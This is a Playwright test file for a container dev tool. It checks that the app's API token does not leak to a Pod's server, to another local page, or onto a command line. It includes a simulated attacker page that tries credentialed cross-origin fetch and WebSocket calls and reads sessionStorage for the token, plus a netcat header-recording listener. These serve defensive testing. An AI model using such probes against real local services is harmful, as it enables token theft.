// Journeys for the browser host's token (issue 21 items 1 and 2), in Chromium against the real Docker Engine: a Pod's
// own server, opened from the run bar's port link, records every request header it gets and never sees the token; a
// page on another local port cannot call the API; `serve --open`'s launch file opens the app once.
import { execFile } from 'node:child_process';
import { createServer, type IncomingMessage, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { chmodSync, existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { promisify } from 'node:util';
import {
  downRunningPod,
  engineJourneys,
  expect,
  openWithEngine,
  serveApp,
  stopApp,
  test,
  typeYaml,
  watchPage,
} from './fixtures';
import { docker, freePort, unique } from './docker';

const engine = engineJourneys('token journeys', 150_000);
const run = promisify(execFile);

/**
 * A Pod whose container answers HTTP on a hostPort and writes every line of each request it gets (headers included)
 * to its log: busybox nc hands each connection to a script that echoes the request to stderr.
 */
function recorderPod(name: string, hostPort: number): string {
  return `apiVersion: v1
kind: Pod
metadata:
  name: ${name}
spec:
  terminationGracePeriodSeconds: 0
  containers:
    - name: recorder
      image: busybox:1.36
      command:
        - sh
        - -c
        - |
          cat > /tmp/answer.sh <<'EOF'
          while IFS= read -r line; do echo "recorded: $line" >&2; [ \${#line} -le 1 ] && break; done
          printf 'HTTP/1.0 200 OK\\r\\nContent-Type: text/plain\\r\\nContent-Length: 9\\r\\n\\r\\nrecorded\\n'
          EOF
          chmod +x /tmp/answer.sh
          echo listening >&2
          while true; do nc -l -p 8080 -e /tmp/answer.sh; done
      ports:
        - containerPort: 8080
          hostPort: ${hostPort}
`;
}

/** Everything the Pod's recorder wrote (to stderr: its stdout is the connection): the request lines and headers. */
async function recorded(name: string): Promise<string> {
  const id = await docker(
    'ps',
    '-q',
    '--filter',
    `label=dev.podwright.pod=${name}`,
    '--filter',
    'label=dev.podwright.container=recorder',
  );
  if (!id) return '';
  const { stdout, stderr } = await run('/usr/bin/docker', ['logs', id.split('\n')[0]!], { timeout: 30_000 });
  return stdout + stderr;
}

/** A second local server: records every request's headers, and serves a page that tries to reach the API. */
async function attackerServer(
  apiPort: number,
): Promise<{ server: Server; port: number; requests: IncomingMessage['headers'][]; reports: string[] }> {
  const requests: IncomingMessage['headers'][] = [];
  const reports: string[] = [];
  const page = `<!doctype html><title>elsewhere</title><script>
const api = 'http://127.0.0.1:${apiPort}';
const report = (what) => fetch('/report', { method: 'POST', body: what });
(async () => {
  // A page on another port: whatever the browser would send on its own (cookies) is all it has.
  try {
    const r = await fetch(api + '/api/call/pod.list', { method: 'POST', credentials: 'include', body: '{}' });
    await report('fetch ' + r.status + ' ' + (await r.text()).slice(0, 200));
  } catch (e) { await report('fetch failed ' + e.message); }
  try {
    const r = await fetch(api + '/api/call/pod.list', { method: 'POST', mode: 'no-cors', credentials: 'include', body: '{}' });
    await report('no-cors ' + r.type);
  } catch (e) { await report('no-cors failed ' + e.message); }
  for (const protocols of [[], ['podwright.v1']]) {
    const outcome = await new Promise((done) => {
      const ws = new WebSocket(api.replace('http', 'ws') + '/api/ws', protocols);
      ws.onopen = () => ws.send(JSON.stringify({ type: 'call', id: 'x', method: 'pod.list', input: {} }));
      ws.onmessage = (m) => done('ws answered ' + String(m.data).slice(0, 200));
      ws.onerror = () => done('ws refused');
      setTimeout(() => done('ws silent'), 3000);
    });
    await report(outcome);
  }
  await report('storage ' + String(sessionStorage.getItem('podwright.token')));
  await report('done');
})();
</script>`;
  const server = createServer((req, res) => {
    requests.push(req.headers);
    if (req.url === '/report') {
      let body = '';
      req.on('data', (c: Buffer) => (body += c.toString()));
      req.on('end', () => {
        reports.push(body);
        res.end();
      });
      return;
    }
    res.writeHead(200, { 'content-type': 'text/html' }).end(page);
  });
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
  return { server, port: (server.address() as AddressInfo).port, requests, reports };
}

test("a running Pod's port link sends the Pod's server nothing of the token", async ({ page, context }) => {
  const name = unique('token-pod');
  engine.created.push(name);
  const hostPort = await freePort();
  await openWithEngine(page, engine.url);
  const token = new URL(engine.url).hash.replace('#token=', '');
  await typeYaml(page, recorderPod(name, hostPort));
  await page.getByTestId('run-start').click();
  const link = page.getByTestId('run-port-link');
  const confirm = page.getByTestId('run-confirm');
  const error = page.getByTestId('run-error');
  await expect(link.or(confirm).or(error)).toBeVisible({ timeout: 60_000 });
  if (await confirm.isVisible()) await page.getByTestId('run-anyway').click();
  await expect(link.or(error)).toBeVisible({ timeout: 60_000 });
  await expect(error).toBeHidden();
  await expect.poll(() => recorded(name), { timeout: 30_000 }).toContain('listening');

  // Click it as a user would: a new tab on 127.0.0.1 at the Pod's port, in the same browser as the app.
  const [pod] = await Promise.all([context.waitForEvent('page'), link.click()]);
  await expect(pod.locator('body')).toContainText('recorded', { timeout: 30_000 });
  await expect.poll(() => recorded(name), { timeout: 30_000 }).toMatch(/recorded: GET \/ HTTP\/1\.1/);
  const headers = await recorded(name);
  expect(headers).toMatch(/recorded: Host: 127\.0\.0\.1:\d+/i);
  expect(headers).not.toContain(token);
  expect(headers).not.toMatch(/^recorded: Cookie:/im);
  expect(headers).not.toMatch(/podwright/i);
  await pod.close();

  await downRunningPod(page);
  await expect(page.getByTestId('run-phase')).toHaveAttribute('data-phase', 'design', { timeout: 60_000 });
});

test('a page on another local port cannot call the API, and learns nothing of the token', async ({ page, context }) => {
  await openWithEngine(page, engine.url);
  const apiPort = Number(new URL(engine.url).port);
  const token = new URL(engine.url).hash.replace('#token=', '');
  const attacker = await attackerServer(apiPort);
  try {
    // Opened from the app's tab as a link to another port would be, after the app has its token.
    const [other] = await Promise.all([
      context.waitForEvent('page'),
      page.evaluate((url) => window.open(url, '_blank'), `http://127.0.0.1:${attacker.port}/`),
    ]);
    await expect.poll(() => attacker.reports.includes('done'), { timeout: 30_000 }).toBe(true);
    const reports = attacker.reports.join('\n');
    expect(reports).toMatch(/fetch (failed|403)/);
    expect(reports).not.toMatch(/ws answered/);
    expect(reports.match(/ws refused/g)).toHaveLength(2);
    expect(reports).toContain('storage null');
    expect(reports).not.toContain(token);
    for (const headers of attacker.requests) expect(JSON.stringify(headers)).not.toContain(token);
    await other.close();
    // The app itself still works.
    await expect(page.getByTestId('engine-status')).toHaveAttribute('data-state', 'ok');
  } finally {
    attacker.server.close();
  }
});

test("serve --open's launch file opens the app once, and no command line holds the token", async ({ page }) => {
  const dir = mkdtempSync(join(tmpdir(), 'pw-open-journey-'));
  const recordedArgs = join(dir, 'args');
  const browser = join(dir, 'browser.sh');
  // The "browser" records the command line it was given (what every local user can read in /proc) and stops there.
  writeFileSync(
    browser,
    `#!/bin/sh\ntr '\\0' ' ' < /proc/$$/cmdline > ${JSON.stringify(`${recordedArgs}.part`)} && mv ${JSON.stringify(`${recordedArgs}.part`)} ${JSON.stringify(recordedArgs)}\n`,
  );
  chmodSync(browser, 0o755);
  const app = await serveApp({ PODWRIGHT_OPEN_WITH: browser }, process.cwd(), ['--open']);
  try {
    await expect.poll(() => existsSync(recordedArgs), { timeout: 15_000 }).toBe(true);
    const args = readFileSync(recordedArgs, 'utf8').trim();
    expect(args).not.toContain(app.token);
    const file = args.split(' ').pop()!;
    watchPage(page);
    await page.goto(pathToFileURL(file).href);
    await expect(page.getByTestId('engine-status')).toHaveAttribute('data-state', 'ok', { timeout: 30_000 });
    expect(page.url()).toBe(`http://127.0.0.1:${app.port}/`);
    // Spent: the file is gone, and the code it held opens nothing.
    expect(existsSync(file)).toBe(false);
  } finally {
    await stopApp(app);
    rmSync(dir, { recursive: true, force: true });
  }
});
